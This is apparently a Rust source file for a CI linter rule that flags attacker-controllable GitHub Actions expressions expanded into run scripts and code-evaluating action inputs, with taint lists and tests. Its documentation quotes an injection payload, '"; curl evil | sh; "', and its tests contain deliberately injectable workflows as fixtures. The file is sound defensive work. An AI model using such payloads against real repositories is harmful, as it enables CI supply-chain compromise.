//! `template-injection`: `${{ … }}` expansions of attacker-controllable values inside code —
//! `run:` scripts, `actions/github-script`'s `script:`, and other inputs that actions
//! evaluate as code.
//!
//! Why: GitHub expands `${{ … }}` *before* the shell (or JavaScript) sees the text, so a PR
//! title such as `"; curl evil | sh; "` becomes part of the program. The Ultralytics (2024)
//! and Nx "s1ngularity" (2025) compromises both started with exactly this. The fix is to pass
//! the value through an environment variable, which the shell treats as data.
//!
//! How sure we are depends on where the value comes from:
//! - high: fields anyone can set — PR/issue/comment titles and bodies, branch names
//!   (`github.head_ref`), commit messages and author names, labels, page names …;
//! - medium: other `github.event.*` and `github.*` values that are not known to be fixed
//!   (numbers, SHAs of the base repository, ids), `inputs.*` declared as free strings, and
//!   matrices computed at run time;
//! - low / info: `env.*` not set statically in the file, step and job outputs, `vars.*` —
//!   values we cannot see, which often carry the same data one hop later.
//!
//! Values that cannot carry text (booleans, numbers, `choice` inputs, `secrets.*`, job
//! results) are not reported.

use crate::ci::Ctx;
use crate::ci::expr::{Expr, Flow, extract_fenced};
use crate::ci::finding::{Confidence, Severity};
use crate::ci::model::Step;
use crate::ci::rules::{Rule, rule};
use crate::ci::yaml::Node;

rule! {
    /// See the module documentation.
    TemplateInjection {
        id: "template-injection",
        severity: High,
        platform: GithubActions,
        description: "attacker-controllable expression expanded into code",
        help: "Do not put `${{ … }}` inside `run:` or script inputs. Pass the value through `env:` (e.g. `env: TITLE: ${{ github.event.pull_request.title }}`) and use it as a quoted shell variable (`\"$TITLE\"`).",
    }
}

/// Actions whose inputs are evaluated as code (after CodeQL's sink list and zizmor's).
const CODE_INPUTS: &[(&str, &[&str])] = &[
    ("actions/github-script", &["script"]),
    ("8398a7/action-slack", &["custom_payload"]),
    ("appleboy/ssh-action", &["script"]),
    ("azure/cli", &["inlinescript"]),
    ("azure/powershell", &["inlinescript"]),
    ("devorbitus/yq-action-output", &["cmd"]),
    ("mikefarah/yq", &["cmd"]),
    ("sergeysova/jq-action", &["cmd"]),
    ("amadevus/pwsh-script", &["script"]),
    ("jannekem/run-python-script-action", &["script"]),
    ("cardinalby/js-eval-action", &["expression"]),
    ("addnab/docker-run-action", &["options", "run"]),
    (
        "tibdex/backport",
        &[
            "body_template",
            "head_template",
            "labels_template",
            "title_template",
        ],
    ),
    (
        "roots/issue-closer-action",
        &["issue-close-message", "pr-close-message"],
    ),
];

/// Leaf names under `github.event` that anyone who can open a PR, issue or comment (or push
/// a branch to a fork) can set to arbitrary text.
const ATTACKER_FIELDS: &[&str] = &[
    "title",
    "body",
    "head_ref",
    "label",
    "message",
    "name",
    "email",
    "page_name",
    "description",
    "default_branch",
    "head_branch",
    "ref",
    "text",
    "body_text",
    "html_url",
    "homepage",
    "path",
    "diff_hunk",
];

/// Leaf names under `github.event` that are numbers, booleans, ids or enumerations.
const FIXED_FIELDS: &[&str] = &[
    "number",
    "id",
    "draft",
    "merged",
    "locked",
    "state",
    "action",
    "author_association",
    "additions",
    "deletions",
    "changed_files",
    "commits",
    "comments",
    "review_comments",
    "run_number",
    "run_attempt",
    "conclusion",
    "status",
    "private",
    "fork",
    "size",
    "stargazers_count",
    "watchers_count",
    "forks_count",
    "open_issues_count",
    "distinct",
    "timestamp",
    "created_at",
    "updated_at",
    "closed_at",
    "merged_at",
    "pushed_at",
    "maintainer_can_modify",
    "mergeable",
    "rebaseable",
    "check_suite_id",
    "workflow_id",
    "run_started_at",
    "forced",
    "deleted",
    "created",
    "side",
    "line",
    "position",
    "start_line",
    "original_line",
    "prerelease",
    "visibility",
    "event",
    "node_id",
    "repository_id",
    "installation",
];

/// `github.*` values (outside `github.event`) that cannot carry attacker text.
const FIXED_GITHUB: &[&str] = &[
    "github.action_path",
    "github.action",
    "github.action_repository",
    "github.api_url",
    "github.event_name",
    "github.graphql_url",
    "github.job",
    "github.path",
    "github.env",
    "github.output",
    "github.step_summary",
    "github.repository",
    "github.repository_id",
    "github.repository_owner",
    "github.repository_owner_id",
    "github.repositoryurl",
    "github.retention_days",
    "github.run_attempt",
    "github.run_id",
    "github.run_number",
    "github.server_url",
    "github.sha",
    "github.token",
    "github.triggering_actor",
    "github.workflow_sha",
    "github.workspace",
    "github.ref_type",
    "github.ref_protected",
    "github.secret_source",
    "github.workflow_ref",
    "github.action_status",
];

/// What a context can hold.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Taint {
    /// Skip: cannot carry attacker text.
    Fixed,
    /// Report with this severity and confidence.
    Risky(Severity, Confidence, &'static str),
}

fn classify(pattern: &str, step: &Step<'_>) -> Taint {
    use Confidence as C;
    use Severity as S;
    let parts: Vec<&str> = pattern.split('.').collect();
    let head = parts.first().copied().unwrap_or_default();
    let last = parts.last().copied().unwrap_or_default();
    match head {
        "github" => {
            if pattern == "github.head_ref" {
                return Taint::Risky(
                    S::High,
                    C::High,
                    "the pull request's branch name is chosen by its author",
                );
            }
            if pattern == "github.event" || pattern == "github" {
                return Taint::Risky(
                    S::High,
                    C::High,
                    "the whole event payload, including every attacker-set field",
                );
            }
            if parts.get(1) == Some(&"event") {
                if parts.get(2) == Some(&"inputs") && parts.len() == 4 {
                    return classify_input(parts[3], step);
                }
                if FIXED_FIELDS.contains(&last) || last.ends_with("_id") || last.ends_with("_count")
                {
                    return Taint::Fixed;
                }
                // Commit SHAs are hex computed by git; logins are `[A-Za-z0-9-]`.
                if last == "sha"
                    || last.ends_with("_sha")
                    || matches!(last, "before" | "after" | "login")
                {
                    return Taint::Fixed;
                }
                if ATTACKER_FIELDS.contains(&last) || last == "*" {
                    return Taint::Risky(
                        S::High,
                        C::High,
                        "event field that can be set by an outside contributor",
                    );
                }
                return Taint::Risky(
                    S::Medium,
                    C::Medium,
                    "event field that may be attacker-controlled",
                );
            }
            if FIXED_GITHUB.contains(&pattern) {
                return Taint::Fixed;
            }
            Taint::Risky(
                S::Medium,
                C::Medium,
                "GitHub context value that may be attacker-controlled",
            )
        }
        "runner" | "job" | "strategy" | "secrets" | "hashfiles" => Taint::Fixed,
        "needs" | "steps" if matches!(last, "result" | "outcome" | "conclusion") => Taint::Fixed,
        "inputs" if parts.len() == 2 => classify_input(parts[1], step),
        "env" => {
            if parts.len() == 2 && env_is_static(parts[1], step) {
                Taint::Fixed
            } else {
                Taint::Risky(
                    S::Low,
                    C::Medium,
                    "environment variable not set statically in this file",
                )
            }
        }
        "matrix" => match step.job {
            Some(job) if job.matrix().is_none() => Taint::Fixed,
            // Static when every value this key can take is written out in the file.
            Some(job) if parts.len() >= 2 && job.matrix_values(parts[1]).is_some() => Taint::Fixed,
            None => Taint::Fixed,
            Some(_) => Taint::Risky(S::Medium, C::Medium, "matrix value computed at run time"),
        },
        _ => Taint::Risky(S::Info, C::Low, "value not visible in this file"),
    }
}

fn classify_input(name: &str, step: &Step<'_>) -> Taint {
    match step.job {
        Some(job) => match job.workflow.input_type(name).as_deref() {
            Some("boolean" | "number" | "choice" | "environment") => Taint::Fixed,
            Some(_) => Taint::Risky(
                Severity::Medium,
                Confidence::Medium,
                "free-text workflow input",
            ),
            None => Taint::Risky(
                Severity::Low,
                Confidence::Low,
                "input not declared in this file",
            ),
        },
        None => Taint::Risky(
            Severity::Medium,
            Confidence::Medium,
            "action input, chosen by the caller",
        ),
    }
}

fn env_is_static(name: &str, step: &Step<'_>) -> bool {
    let lookup = |env: Option<&Node>| {
        env?.entries()
            .iter()
            .find(|(k, _)| k.as_str().is_some_and(|k| k.eq_ignore_ascii_case(name)))
            .map(|(_, v)| !v.as_str().unwrap_or_default().contains("${{"))
    };
    let levels = [
        step.env(),
        step.job.and_then(|j| j.node.get("env")),
        step.job.and_then(|j| j.workflow.env()),
    ];
    // The innermost definition wins.
    levels.into_iter().find_map(lookup).unwrap_or(false)
}

impl TemplateInjection {
    fn check_code(&self, node: &Node, step: &Step<'_>, sink: &str, cx: &mut Ctx<'_>) {
        let Some(code) = node.as_str() else {
            return;
        };
        let (fenced, _) = extract_fenced(code);
        for expr in fenced {
            let parsed = match Expr::parse(expr.inner) {
                Ok(parsed) => parsed,
                Err(err) => {
                    let line = cx.span_within(node, expr.offset, expr.raw).start.line;
                    cx.warn(
                        line,
                        format!("{err} in `{}`; not checked for injection", expr.raw),
                    );
                    continue;
                }
            };
            for flow in parsed.dataflow() {
                let (taint, raw) = match flow {
                    Flow::Context(ctx) => match ctx.pattern() {
                        Some(pattern) => (classify(&pattern, step), ctx.raw.as_str()),
                        None if ctx.head() == "secrets" => (Taint::Fixed, ctx.raw.as_str()),
                        None => (
                            Taint::Risky(
                                Severity::Info,
                                Confidence::Low,
                                "computed context access",
                            ),
                            ctx.raw.as_str(),
                        ),
                    },
                    Flow::Opaque(raw) => (
                        Taint::Risky(Severity::Info, Confidence::Low, "computed value"),
                        raw,
                    ),
                };
                let Taint::Risky(severity, confidence, why) = taint else {
                    continue;
                };
                let span = cx.span_within(node, expr.offset, expr.raw);
                cx.report(
                    &Self::INFO,
                    severity,
                    confidence,
                    span,
                    format!("`{raw}` is expanded into {sink} ({why})"),
                    expr.raw,
                );
            }
        }
    }
}

impl Rule for TemplateInjection {
    fn info(&self) -> &'static crate::ci::RuleInfo {
        &Self::INFO
    }

    fn step(&self, step: &Step<'_>, cx: &mut Ctx<'_>) {
        if let Some(run) = step.run() {
            self.check_code(run, step, "a `run:` script", cx);
        }
        let Some((_, repo)) = step.repo_uses() else {
            return;
        };
        let name = repo.name().to_ascii_lowercase();
        let Some((_, inputs)) = CODE_INPUTS.iter().find(|(action, _)| *action == name) else {
            return;
        };
        if let Some(with) = step.with_node() {
            for (key, value) in with.entries() {
                let Some(key) = key.as_str() else { continue };
                if inputs.contains(&key.to_ascii_lowercase().as_str()) {
                    let sink = format!("the `{key}` input of `{name}`, which runs it as code");
                    self.check_code(value, step, &sink, cx);
                }
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use crate::ci::rules::testing::{action, workflow};
    use crate::ci::{Confidence, Severity};

    #[test]
    fn attacker_fields_in_run_are_high() {
        let found = workflow(
            "template-injection",
            "on: issues\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: |\n          echo start\n          echo \"${{ github.event.issue.title }}\" && echo ${{ github.head_ref }}\n      - run: echo '${{ toJSON(github.event) }}'\n",
        );
        assert_eq!(found.len(), 3);
        assert_eq!(found[2].severity, Severity::High);
        assert_eq!((found[0].line, found[0].column), (8, 17));
        assert_eq!(found[0].evidence, "${{ github.event.issue.title }}");
        assert_eq!(found[0].severity, Severity::High);
        assert_eq!(found[1].evidence, "${{ github.head_ref }}");
    }

    #[test]
    fn from_json_and_case_pass_attacker_text_through() {
        let found = workflow(
            "template-injection",
            "on: issues\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: echo ${{ fromJSON(github.event.issue.body) }}\n      - run: echo ${{ case(github.event.issue.title == 'x', 'fixed', github.event.issue.title) }}\n      - run: echo ${{ fromJSON(github.event.issue.body) == 'x' }}\n",
        );
        let lines: Vec<u32> = found.iter().map(|f| f.line).collect();
        assert_eq!(lines, [6, 7]);
        assert!(found.iter().all(|f| f.severity == Severity::High));
    }

    #[test]
    fn github_script_is_a_sink() {
        let found = workflow(
            "template-injection",
            "on: issue_comment\njobs:\n  a:\n    runs-on: x\n    steps:\n      - uses: actions/github-script@v7\n        with:\n          script: console.log('${{ github.event.comment.body }}')\n",
        );
        assert_eq!(found.len(), 1);
        assert_eq!(found[0].line, 8);
    }

    #[test]
    fn fixed_values_are_not_reported() {
        let found = workflow(
            "template-injection",
            "on:\n  workflow_dispatch:\n    inputs:\n      dry:\n        type: boolean\nenv:\n  STATIC: hello\njobs:\n  a:\n    runs-on: x\n    strategy:\n      matrix:\n        os: [a, b]\n        include:\n          - target: {name: x}\n    steps:\n      - run: |\n          echo ${{ github.event.pull_request.number }} ${{ github.event.pull_request.head.sha }} ${{ github.event.sender.login }} ${{ github.sha }} ${{ runner.os }}\n          echo ${{ inputs.dry }} ${{ env.STATIC }} ${{ matrix.os }} ${{ matrix.target.name }} ${{ secrets.TOKEN }}\n          echo ${{ steps.x.outcome }} ${{ github.event.issue.title == 'x' }} ${{ github.event.workflow_run.event }}\n      - name: not a sink\n        env:\n          TITLE: ${{ github.event.issue.title }}\n        run: echo \"$TITLE\"\n",
        );
        assert!(found.is_empty(), "{found:?}");
    }

    #[test]
    fn indirect_values_are_low_confidence() {
        let found = workflow(
            "template-injection",
            "on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: echo ${{ steps.meta.outputs.tags }} ${{ env.FROM_GITHUB_ENV }}\n",
        );
        assert_eq!(found.len(), 2);
        assert!(
            found
                .iter()
                .all(|f| f.confidence <= Confidence::Medium && f.severity <= Severity::Low)
        );
    }

    #[test]
    fn composite_action_inputs_are_medium() {
        let found = action(
            "template-injection",
            "name: x\ninputs:\n  version: {}\nruns:\n  using: composite\n  steps:\n    - run: install ${{ inputs.version }}\n      shell: bash\n",
        );
        assert_eq!(found.len(), 1);
        assert_eq!(found[0].severity, Severity::Medium);
    }
}
